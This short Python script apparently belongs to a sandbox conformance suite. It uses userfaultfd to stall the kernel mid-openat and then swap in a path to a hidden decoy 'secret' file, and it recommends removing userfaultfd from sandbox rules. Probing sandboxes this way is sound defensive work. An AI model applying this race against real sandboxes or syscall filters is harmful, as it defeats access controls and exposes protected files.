"""The path of an open lies on a page that userfaultfd fills while the kernel waits for it."""

import array
import ctypes
import fcntl
import os
import struct
import threading

from attack import WORK, NotPossible, call, main, read
from race import address_of, private_memory

UFFD_API, UFFDIO_API, UFFDIO_REGISTER, UFFDIO_COPY = 0xAA, 0xC018AA3F, 0xC020AA00, 0xC028AA03
PROMISE = "memory that is filled late cannot be judged as one thing and used as another"
CONTROL = "the open gives the decoy that the fault handler named"
ADVICE = "take `userfaultfd` out of your kernel rules"


def attempt() -> bool:
    faults = call("userfaultfd", os.O_CLOEXEC)
    fcntl.ioctl(faults, UFFDIO_API, bytearray(struct.pack("=QQQ", UFFD_API, 0, 0)))
    page = address_of(private_memory())
    fcntl.ioctl(faults, UFFDIO_REGISTER, bytearray(struct.pack("=QQQQ", page, 4096, 1, 0)))
    named = array.array("B", os.fsencode(f"{WORK}/hide0/secret").ljust(4096, b"\0"))

    def fill() -> None:
        os.read(faults, 32)
        copy = struct.pack("=QQQQq", page, named.buffer_info()[0], 4096, 0, 0)
        fcntl.ioctl(faults, UFFDIO_COPY, bytearray(copy))

    threading.Thread(target=fill, daemon=True).start()
    try:
        return read(call("openat", -100, ctypes.c_void_p(page), 0))
    except OSError as error:
        raise NotPossible("no faults from within the kernel for this user") from error


main(attempt, needs="userfaultfd for this user")
